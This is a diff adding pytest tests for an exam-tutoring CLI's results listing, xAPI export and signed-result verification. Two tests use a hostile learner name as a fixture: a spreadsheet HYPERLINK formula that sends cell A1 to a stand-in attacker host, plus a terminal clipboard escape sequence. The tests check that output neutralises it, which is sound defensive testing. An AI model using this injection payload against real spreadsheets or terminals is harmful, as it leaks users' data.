@@ -376,12 +376,36 @@ def run(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
 
 
 def test_results_list(with_records: Path, capsys: pytest.CaptureFixture[str]) -> None:
-    """Every attempt is listed with its score, result and whether it is signed."""
+    """Every attempt is listed with its exam, kind, score, result and whether it is signed."""
     code, out, _ = run(capsys, "results", "list", "--data-dir", str(with_records))
     assert code == 0
     assert "Ada Lovelace" in out and "10/15 (66.7%)" in out and "failed" in out
     assert "Alan Turing" in out and "in progress" in out
     assert f"yes, key {KEY.key_id}" in out
+    [ada] = [line for line in out.splitlines() if "Ada Lovelace" in line]
+    assert "sign-off  sign-off  Container hardening sign-off" in ada  # exam id, kind, title
+    assert "(ada lovelace)" in ada  # the learner's id beside the name
+
+
+@pytest.mark.parametrize("fmt", ["csv", "json"])
+def test_results_list_as_csv_and_json(with_records: Path, fmt: str,
+                                      capsys: pytest.CaptureFixture[str]) -> None:
+    """CSV and JSON listings read back with every column, the open attempt included."""
+    from tutor.exam.listing import COLUMNS
+
+    code, out, _ = run(capsys, "results", "list", "--format", fmt,
+                       "--data-dir", str(with_records))
+    rows = list(csv.DictReader(io.StringIO(out))) if fmt == "csv" else json.loads(out)
+    assert code == 0 and [tuple(row) for row in rows] == [COLUMNS] * 3
+    by_name = {row["learner_name"]: row for row in rows}
+    ada, alan = by_name["Ada Lovelace"], by_name["Alan Turing"]
+    assert ada["learner_id"] == "ada lovelace" and ada["kind"] == "sign-off"
+    assert ada["exam_id"] == "sign-off" and ada["title"] == "Container hardening sign-off"
+    assert str(ada["correct"]) == "10" and str(ada["total"]) == "15"
+    assert ada["result"] == "failed" and ada["signed"] == KEY.key_id and ada["ended_at"]
+    assert alan["result"] == "in progress" and alan["signed"] == "no"
+    assert alan["exam_id"] == ada["exam_id"] and alan["kind"] == "sign-off"
+    assert alan["ended_at"] in ("", None) and alan["correct"] in ("", None)
 
 
 def test_export_json_then_verify(with_records: Path, tmp_path: Path,
@@ -437,7 +461,7 @@ def test_export_xapi_statements(with_records: Path, capsys: pytest.CaptureFixtur
     attempt = statements[0]
     assert attempt["verb"]["id"] == "http://adlnet.gov/expapi/verbs/failed"
     assert attempt["actor"]["account"] == {"homePage": "https://lms.example.com",
-                                           "name": "Ada Lovelace"}
+                                           "name": "ada lovelace"}
     assert attempt["object"]["definition"]["type"] == \
         "http://adlnet.gov/expapi/activities/assessment"
     score = attempt["result"]["score"]
@@ -457,6 +481,62 @@ def test_export_xapi_statements(with_records: Path, capsys: pytest.CaptureFixtur
     kinds = {s["object"]["definition"]["interactionType"] for s in answers}
     assert {"choice", "true-false", "other"} <= kinds
     assert len({s["id"] for s in statements}) == len(statements)
+
+
+def test_xapi_gives_the_correct_response_where_the_record_proves_it(
+        with_records: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """A right answer, and the other of true or false, give correctResponsesPattern."""
+    code, out, _ = run(capsys, "results", "export", "--format", "xapi",
+                       "--data-dir", str(with_records))
+    answers = [s for s in json.loads(out) if s["verb"]["id"].endswith("/answered")]
+    assert code == 0
+    for statement in answers:
+        definition, result = statement["object"]["definition"], statement["result"]
+        pattern = definition.get("correctResponsesPattern")
+        if definition["interactionType"] == "other":
+            assert pattern is None  # a fix-it question has many right Dockerfiles
+        elif result["success"]:
+            assert pattern == [result["response"]]
+        elif definition["interactionType"] == "true-false":
+            assert pattern == [{"true": "false", "false": "true"}[result["response"]]]
+    assert sum("correctResponsesPattern" in s["object"]["definition"] for s in answers) >= 10
+
+
+def test_xapi_pattern_comes_from_the_records_expected_answer(
+        with_records: Path, course: Course, capsys: pytest.CaptureFixture[str]) -> None:
+    """With "expected" in each question of the record, every choice and true-false
+    question states its right answer in xAPI's syntax: ids joined by [,]."""
+    store = ProgressStore.open(with_records, "tester")
+    questions = {q.id: q for q in course.questions}
+    for attempt in store.exams.all_attempts():
+        if attempt.record is None:
+            continue
+        for entry in attempt.record["questions"]:
+            question = questions[entry["id"]]
+            if question.type != "fix_it":
+                entry["expected"] = recorded_answer(question, right_rows(question))
+        store._db.execute("UPDATE exam_attempts SET record = ? WHERE id = ?",
+                          (json.dumps(attempt.record), attempt.id))
+    store._db.commit()
+    store.close()
+    code, out, _ = run(capsys, "results", "export", "--format", "xapi",
+                       "--data-dir", str(with_records))
+    answers = [s for s in json.loads(out) if s["verb"]["id"].endswith("/answered")]
+    assert code == 0
+    for statement in answers:
+        question = questions[statement["object"]["id"].rsplit(":", 1)[1]]
+        pattern = statement["object"]["definition"].get("correctResponsesPattern")
+        if question.type == "fix_it":
+            assert pattern is None
+        elif question.type == "true_false":
+            assert pattern == [str(question.answer).lower()]
+        elif question.type == "spot_the_line":
+            assert pattern == ["[,]".join(f"line-{line}" for line in sorted(question.answer))]
+        else:
+            assert pattern == ["[,]".join(f"option-{index}"
+                                          for index in sorted(question.answer))]
+    patterns = [s["object"]["definition"].get("correctResponsesPattern") for s in answers]
+    assert any(pattern and "[,]" in pattern[0] for pattern in patterns)  # several right
 
 
 def test_new_key_is_private_and_never_replaced(tmp_path: Path,
@@ -581,6 +661,17 @@ def test_results_list_shows_control_characters_as_glyphs(
     code, out, _ = run(capsys, "results", "list", "--data-dir", str(with_hostile_name))
     assert code == 0 and "\x1b" not in out and "\x07" not in out
     assert '=HYPERLINK("http://evil.example/?"&A1)␛]52;c;aGk=␇' in out
+
+
+def test_csv_listing_neutralises_formulas_and_controls(
+        with_hostile_name: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """results list --format csv writes a formula name as text, with its controls visible."""
+    code, out, _ = run(capsys, "results", "list", "--format", "csv",
+                       "--data-dir", str(with_hostile_name))
+    [row] = list(csv.DictReader(io.StringIO(out)))
+    assert code == 0 and "\x1b" not in out
+    assert row["learner_name"] == "'" + '=HYPERLINK("http://evil.example/?"&A1)␛]52;c;aGk=␇'
+    assert row["learner_id"] == row["learner_name"] and row["correct"] == "10"
 
 
 def test_csv_export_neutralises_formulas_and_controls(
@@ -800,3 +891,32 @@ def test_an_id_not_on_the_roster_is_refused_before_the_screen(
     code, _, err = run(capsys, "exam", "--roster", str(roster_file(tmp_path)), "--id", "Z99",
                        "--data-dir", str(tmp_path / "data"))
     assert code == 2 and "'Z99' is not on the roster" in err
+
+
+def test_verify_exam_rejects_the_cheat_and_accepts_the_real_attempt(
+        course: Course, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
+        capsys: pytest.CaptureFixture[str]) -> None:
+    """Issue 14's done-when: the practice cheat fails verify --exam sign-off, naming why;
+    an export of the real sign-off attempts passes, sealed and chained."""
+    monkeypatch.setenv(KEY_ENV, KEY.secret.decode())
+    data = tmp_path / "data"
+    store = ProgressStore.open(data, "tester")
+    cheat = spec_for(course, questions=1, pass_mark=1, types=["true_false"])
+    ExamSession.begin(store, course, cheat, "Bob Cheat", KEY).submit()
+    finished_record(course, store, name="Ada Lovelace")
+    ExamSession.begin(store, course, spec_for(course), "Ada Lovelace", KEY).submit()
+    store.close()
+    everything, signed_off = tmp_path / "all.json", tmp_path / "sign-off.json"
+    assert run(capsys, "results", "export", "--data-dir", str(data), "-o",
+               str(everything))[0] == 0
+    code, out, _ = run(capsys, "results", "verify", "--exam", "sign-off", str(everything))
+    assert code == 1
+    assert "Bob Cheat" in out and "it is a practice exam" in out
+    assert "pass_mark is 1 in the record but 80 in this course's definition" in out
+    assert run(capsys, "results", "export", "--exam", "sign-off", "--data-dir", str(data),
+               "-o", str(signed_off))[0] == 0
+    code, out, _ = run(capsys, "results", "verify", "--exam", "sign-off", str(signed_off))
+    assert code == 0, out
+    assert "Bob Cheat" not in signed_off.read_text()
+    code, _, err = run(capsys, "results", "verify", "--exam", "final", str(signed_off))
+    assert code == 2 and "defines no exam 'final'" in err
